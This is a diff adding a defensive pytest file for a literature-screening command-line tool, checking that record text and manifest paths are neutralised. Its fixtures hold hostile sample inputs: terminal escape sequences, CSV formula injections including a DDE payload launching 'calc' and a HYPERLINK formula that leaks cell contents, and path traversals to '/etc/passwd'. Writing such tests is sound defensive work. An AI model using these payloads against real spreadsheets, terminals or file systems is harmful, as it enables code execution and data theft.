@@ -1,0 +1,252 @@
+"""Hostile input: record text, manifests and decision files that must not hurt the reviewer,
+their files or their spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from typer.testing import CliRunner
+
+from screenrev.console import clean
+from screenrev.review.spreadsheet import neutralise, restore
+
+from .conftest import invoke
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
+ESCAPES = "\x1b]0;owned\x07\x1b[2J"
+
+HOSTILE_RIS = f"""TY  - JOUR
+TI  - {FORMULA}
+AU  - @Smith, J.
+PY  - 2020
+JO  - Journal of Tests
+AB  - -1+1 is an abstract that starts like a formula.
+ER  - 
+
+TY  - JOUR
+TI  - Depression in adolescents {ESCAPES}with a hidden title
+AU  - +Jones, K.
+PY  - 2021
+JO  - Journal of Tests
+AB  - An abstract {ESCAPES}about depression.
+ER  - 
+
+TY  - JOUR
+TI  - An ordinary third record about anxiety
+AU  - Brown, L.
+PY  - 2019
+JO  - Journal of Tests
+AB  - Nothing special here.
+ER  - 
+"""
+
+
+@pytest.fixture
+def hostile(runner: CliRunner, review_dir: Path, tmp_path: Path) -> Path:
+    export = tmp_path / "hostile.ris"
+    export.write_text(HOSTILE_RIS, encoding="utf-8")
+    invoke(runner, "import", str(export), "-d", "Hostile")
+    return review_dir
+
+
+def _keys(runner: CliRunner) -> list[str]:
+    return [row["key"] for row in csv.DictReader(io.StringIO(invoke(runner, "export", "records").stdout))]
+
+
+# --- 1. terminal escapes ---------------------------------------------------------------
+
+
+def test_clean_shows_control_characters_visibly() -> None:
+    assert clean("a\x1b[2Jb\x07c\x9bd\u202ee\tf\ng") == "a\u241b[2Jb\u2407c\ufffdd\ufffde\tf\ng"
+    assert clean("plain text, accents: é ü ñ") == "plain text, accents: é ü ñ"
+
+
+@pytest.mark.parametrize("command", [["rank"], ["review", "--reviewer", "AB"], ["status"], ["sources"]])
+def test_no_escape_sequence_from_a_record_reaches_the_terminal(runner: CliRunner, hostile: Path,
+                                                               command: list[str]) -> None:
+    from screenrev.cli import app
+
+    result = runner.invoke(app, command, input="q", catch_exceptions=False)
+    assert result.exit_code == 0
+    assert "\x1b]" not in result.stdout and "\x07" not in result.stdout and "\x1b[2J" not in result.stdout
+    if command[0] in ("rank", "review"):
+        assert "\u241b]0;owned" in result.stdout  # shown, not obeyed
+
+
+# --- 2. spreadsheet formulas ------------------------------------------------------------
+
+
+def test_neutralised_cells_read_back_as_written() -> None:
+    for value in ["=1+1", "+44 20", "-x", "@SUM(A1)", "\tTab", "'quoted", "''", "'=x", "plain", "", "-0.52", "1e-5"]:
+        assert restore(neutralise(value)) == value
+    assert neutralise("-0.52") == "-0.52" and neutralise("=1+1") == "'=1+1" and neutralise("'a") == "''a"
+
+
+def _formula_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
+            if cell[:1] in ("=", "+", "-", "@") and not cell.lstrip("+-").replace(".", "", 1).isdigit()]
+
+
+def test_every_csv_screenrev_writes_neutralises_formulas(runner: CliRunner, hostile: Path) -> None:
+    keys = _keys(runner)
+    invoke(runner, "decide", keys[0], "--decision", "include", "--reviewer", "=cmd|' /C calc'!A0",
+           "--note", "@SUM(1+1)")
+    invoke(runner, "decide", keys[1], "--decision", "include", "--reviewer", "=cmd|' /C calc'!A0")
+    outputs = {
+        "export records": invoke(runner, "export", "records").stdout,
+        "export decisions": invoke(runner, "export", "decisions").stdout,
+        "export included": invoke(runner, "export", "included", "--stage", "title_abstract", "--format", "csv").stdout,
+        "screen --details": (invoke(runner, "screen", "--details", "details.csv") and
+                             (hostile / "details.csv").read_text(encoding="utf-8")),
+        "rank --out": (invoke(runner, "rank", "--out", "worklist.csv", "--reviewer", "=cmd|' /C calc'!A0") and
+                       (hostile / "worklist.csv").read_text(encoding="utf-8")),
+        "decision file": next((hostile / "decisions").glob("title_abstract-*.csv")).read_text(encoding="utf-8"),
+    }
+    for name, text in outputs.items():
+        assert _formula_cells(text) == [], name
+    assert "'=HYPERLINK" in outputs["export records"]
+    # Read back, every value is what was written.
+    decisions = list(csv.DictReader(io.StringIO(invoke(runner, "export", "decisions").stdout)))
+    assert {restore(row["reviewer"]) for row in decisions} == {"=cmd|' /C calc'!A0"}
+    assert restore(decisions[0]["note"]) == "@SUM(1+1)"
+    assert invoke(runner, "flow", "--json").exit_code == 0
+
+
+def test_the_duplicate_review_queue_round_trips_formula_like_titles(runner: CliRunner, review_dir: Path,
+                                                                    tmp_path: Path) -> None:
+    text = HOSTILE_RIS.split("ER  - ")[0] + "ER  - \n"
+    twin = text.replace("PY  - 2020", "PY  - 2020\nDO  - 10.1000/xyz").replace("JO  - Journal of Tests",
+                                                                                "JO  - Journal of Testing")
+    (tmp_path / "a.ris").write_text(text, encoding="utf-8")
+    (tmp_path / "b.ris").write_text(twin, encoding="utf-8")
+    invoke(runner, "import", str(tmp_path / "a.ris"), "-d", "A")
+    invoke(runner, "import", str(tmp_path / "b.ris"), "-d", "B")
+    queue = review_dir / "decisions" / "queue.csv"
+    invoke(runner, "dedup", "--review", str(queue))
+    if queue.exists() and queue.read_text(encoding="utf-8").count("\n") > 1:
+        assert _formula_cells(queue.read_text(encoding="utf-8")) == []
+
+
+# --- 3. the manifest stays inside the folder ---------------------------------------------
+
+
+@pytest.mark.parametrize(("section", "old", "new"), [
+    ("review", 'protocol = "protocol.yaml"', 'protocol = "/etc/passwd"'),
+    ("review", 'decisions = "decisions"', 'decisions = "../../elsewhere"'),
+])
+def test_a_manifest_path_outside_the_folder_is_refused(runner: CliRunner, hostile: Path, section: str, old: str,
+                                                       new: str) -> None:
+    manifest = hostile / "screenrev.toml"
+    text = manifest.read_text(encoding="utf-8")
+    assert old in text
+    manifest.write_text(text.replace(old, new), encoding="utf-8")
+    result = invoke(runner, "flow", ok=False)
+    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
+    assert result.exit_code == 1 and len(errors) == 1
+    assert "not a path inside the review folder" in errors[0] and f"[{section}]" in errors[0]
+
+
+def test_a_search_file_outside_the_folder_is_refused(runner: CliRunner, hostile: Path) -> None:
+    manifest = hostile / "screenrev.toml"
+    text = manifest.read_text(encoding="utf-8")
+    manifest.write_text(text.replace('file = "searches/hostile.ris"', 'file = "../../../../etc/hostname"'),
+                        encoding="utf-8")
+    (hostile / ".screenrev").rename(hostile / ".old-workspace")  # a fresh clone rebuilds from the files
+    result = invoke(runner, "sources", ok=False)
+    assert result.exit_code == 1 and "[[searches]] 'hostile' file" in result.stderr
+
+
+def test_a_diagram_outside_the_folder_is_refused_and_nothing_is_written(runner: CliRunner, hostile: Path,
+                                                                        tmp_path: Path) -> None:
+    manifest = hostile / "screenrev.toml"
+    manifest.write_text(manifest.read_text(encoding="utf-8") + '\n[flow]\ndiagram = "../outside.svg"\n',
+                        encoding="utf-8")
+    result = invoke(runner, "run", ok=False)
+    assert result.exit_code == 1 and "[flow] diagram" in result.stderr
+    assert not (tmp_path / "outside.svg").exists()
+
+
+def test_a_protocol_linked_outside_the_folder_is_refused(runner: CliRunner, hostile: Path, tmp_path: Path) -> None:
+    secret = tmp_path / "secret.yaml"
+    secret.write_text("criteria: []\n", encoding="utf-8")
+    (hostile / "protocol.yaml").unlink()
+    (hostile / "protocol.yaml").symlink_to(secret)
+    result = invoke(runner, "screen", ok=False)
+    assert result.exit_code == 1 and "[review] protocol" in result.stderr
+
+
+# --- 6. decisions are neither lost nor contradicted --------------------------------------
+
+
+def test_decide_file_outside_decisions_is_refused(runner: CliRunner, hostile: Path, tmp_path: Path) -> None:
+    key = _keys(runner)[0]
+    for target in (tmp_path / "mine.csv", hostile / "mine.csv", hostile / "decisions" / "mine.txt"):
+        result = invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB", "--file", str(target),
+                        ok=False)
+        assert result.exit_code == 1 and "decisions are read from decisions/ only" in result.stderr
+        assert not target.exists()
+    inside = hostile / "decisions" / "team" / "mine.csv"
+    invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB", "--file", str(inside))
+    assert json.loads(invoke(runner, "flow", "--json").stdout)["records_screened"] == 1  # it counts
+
+
+def test_a_second_process_deciding_the_same_record_differently_is_refused(runner: CliRunner, hostile: Path) -> None:
+    from screenrev.decisions.stage import DecisionLog, default_file, primary_index
+    from screenrev.errors import DecisionError
+    from screenrev.records.workspace import Workspace
+    from screenrev.review.folder import Review
+
+    key, other = _keys(runner)[:2]
+    review = Review.find(hostile)
+    with Workspace.open(review) as workspace:
+        log = DecisionLog(review, primary_index(workspace))  # read before the other process writes
+    invoke(runner, "decide", key, "--decision", "include", "--reviewer", "AB")  # the other process
+    file = default_file(review, "title_abstract", "AB")
+    cells = {"key": key, "stage": "title_abstract", "decision": "exclude", "reason": "", "reviewer": "AB",
+             "timestamp": "2024-01-01", "note": ""}
+    with pytest.raises(DecisionError, match="in another screenrev meanwhile"):
+        log.append([(cells, None)], file=file)
+    # The same decision is not written twice, and a new record still goes in.
+    assert log.append([({**cells, "decision": "include"}, None)], file=file) == []
+    added = log.append([({**cells, "key": other}, None)], file=file)
+    assert [d.key for d in added] == [other]
+    rows = list(csv.DictReader(io.StringIO(file.read_text(encoding="utf-8"))))
+    assert [(row["key"], row["decision"]) for row in rows] == [(key, "include"), (other, "exclude")]
+    assert invoke(runner, "flow", "--json").exit_code == 0  # the folder stays usable
+
+
+# --- everything at once -------------------------------------------------------------------
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40))
+def test_any_text_goes_through_import_export_decide_and_flow_without_harm(runner: CliRunner, review_dir: Path,
+                                                                         tmp_path_factory, text: str) -> None:
+    folder = tmp_path_factory.mktemp("table")
+    title = " ".join(text.split()) or "x"
+    name = f"s{abs(hash(title)) % 10**8}"
+    export = folder / f"{name}.csv"
+    with export.open("w", encoding="utf-8", newline="") as out:
+        writer = csv.writer(out)
+        writer.writerow(["id", "title", "abstract", "label"])
+        writer.writerow(["1", title, "An abstract.", "1"])
+        writer.writerow(["2", "A second record", title, "0"])
+    invoke(runner, "import", str(export), "-d", "Any", "--name", name)
+    exported = invoke(runner, "export", "records").stdout
+    rows = [row for row in csv.DictReader(io.StringIO(exported)) if row["search"] == name]
+    assert len(rows) == 2  # nothing lost
+    assert _formula_cells(exported) == []  # nothing a spreadsheet would run
+    labels = folder / "labels.csv"
+    with labels.open("w", encoding="utf-8", newline="") as out:
+        csv.writer(out).writerows([["id", "label", "note"], ["1", "1", title]])
+    invoke(runner, "decide", "--from", str(labels), "--search", name, "--reviewer", name, "--note-column", "note")
+    decisions = list(csv.DictReader(io.StringIO(invoke(runner, "export", "decisions").stdout)))
+    assert title in {restore(row["note"]) for row in decisions}  # the note comes back as typed
+    assert invoke(runner, "flow", "--json").exit_code == 0
+    assert sorted(path.name for path in review_dir.parent.iterdir()) == ["review"]  # nothing written beside it
